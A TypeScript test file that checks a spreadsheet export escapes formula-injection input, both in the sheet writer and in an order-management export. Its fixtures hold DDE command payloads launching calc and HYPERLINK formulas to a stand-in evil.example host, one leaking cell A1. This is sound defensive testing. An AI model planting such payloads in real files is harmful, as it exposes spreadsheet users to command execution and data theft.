import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  appendRow,
  openSheet,
  openStreamingWorkbook,
  type SheetColumn,
} from '../../shared/xlsx-export/xlsx-sheet.js';
import { startTestServer, type TestServer } from '../../testing/test-server.js';

/**
 * docs/security.md 'Formulas in exported spreadsheets': a text cell that begins with = + - @ tab or
 * carriage return is written with a leading single quote (OWASP, CSV injection) by the one sheet
 * writer every export uses.
 */

async function readBack(data: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(data as unknown as ExcelJS.Buffer);
  return workbook.worksheets[0]!;
}

interface Row {
  text: string;
  amount: number;
  count: number;
}

describe('the sheet writer escapes formulas in text cells', () => {
  it('prefixes a quote to text beginning with = + - @ tab or CR, and keeps numbers as numbers', async () => {
    const columns: SheetColumn<Row>[] = [
      { header: 'Text', width: 20, kind: 'text', value: (row) => row.text },
      {
        header: 'Amount',
        width: 12,
        kind: 'money',
        value: (row) => ({ minorUnits: row.amount, currency: 'VND' }),
      },
      { header: 'Count', width: 8, kind: 'count', value: (row) => row.count },
    ];
    const rows: Row[] = [
      { text: '=HYPERLINK("http://evil.example","Click")', amount: -50_000, count: -3 },
      { text: "+cmd|' /C calc'!A0", amount: 1, count: 1 },
      { text: "-2+3+cmd|' /C calc'!A0", amount: 1, count: 1 },
      { text: "@SUM(1+1)*cmd|' /C calc'!A0", amount: 1, count: 1 },
      { text: '\t=1+1', amount: 1, count: 1 },
      { text: '\r=1+1', amount: 1, count: 1 },
      { text: '=1+1', amount: 1, count: 1 },
      // Plain text and signed plain numbers (phone numbers) are left alone.
      { text: 'Nguyễn = An', amount: 1, count: 1 },
      { text: '+84901234567', amount: 1, count: 1 },
      { text: '+84 (90) 123-4567', amount: 1, count: 1 },
      { text: '-12.5', amount: 1, count: 1 },
    ];
    const output = new PassThrough();
    const chunks: Buffer[] = [];
    output.on('data', (chunk: Buffer) => chunks.push(chunk));
    const workbook = openStreamingWorkbook(output);
    const sheet = openSheet(workbook, 'Sheet', columns);
    for (const row of rows) appendRow(sheet, columns, row);
    sheet.commit();
    await workbook.commit();

    const read = await readBack(Buffer.concat(chunks));
    // XML reads a carriage return back as a line feed: what matters is the quote before it.
    const texts = rows.map((_, index) =>
      String(read.getRow(index + 2).getCell(1).value).replace(/\n/g, '\r'),
    );
    expect(texts).toEqual([
      '\'=HYPERLINK("http://evil.example","Click")',
      "'+cmd|' /C calc'!A0",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'\t=1+1",
      "'\r=1+1",
      "'=1+1",
      'Nguyễn = An',
      '+84901234567',
      '+84 (90) 123-4567',
      '-12.5',
    ]);
    // A negative amount and a negative count are numbers, not text.
    expect(read.getRow(2).getCell(2).value).toBe(-50_000);
    expect(read.getRow(2).getCell(3).value).toBe(-3);
    expect(read.getRow(2).getCell(1).formula).toBeUndefined();
  });
});

describe('management.xlsx carries user input escaped', () => {
  let server: TestServer;
  let leadId: number;
  const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")';
  const evilStreet = '@SUM(1+1)';

  beforeAll(async () => {
    server = await startTestServer();
    const order = await server.engine.db
      .selectFrom('saleOrders')
      .select('leadId')
      .where('orgId', '=', 4)
      .orderBy('id')
      .executeTakeFirstOrThrow();
    leadId = order.leadId;
    await server.engine.db
      .updateTable('leads')
      .set({ customerName: evilName, street: evilStreet })
      .where('id', '=', leadId)
      .execute();
  });
  afterAll(() => server.close());

  it('writes a customer name beginning with = as quoted text, and the amounts as numbers', async () => {
    const token = await server.login('vn1.manager');
    const response = await server.app.inject({
      method: 'POST',
      url: '/api/orders/management/export/management',
      payload: {},
      headers: { authorization: `Bearer ${token}` },
    });
    expect(response.statusCode).toBe(200);
    const sheet = await readBack(response.rawPayload);
    const header = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1);
    const column = (name: string) => header.indexOf(name) + 1;
    let found: ExcelJS.Row | undefined;
    sheet.eachRow((row, number) => {
      if (number > 1 && row.getCell(column('Lead ID')).value === leadId) found = row;
    });
    expect(found).toBeDefined();
    expect(found!.getCell(column('Customer')).value).toBe(`'${evilName}`);
    expect(found!.getCell(column('Customer')).formula).toBeUndefined();
    expect(typeof found!.getCell(column('Amount')).value).toBe('number');
    expect(String(found!.getCell(column('Phone')).value)).toMatch(/^\+84\d+$/);
  });
});
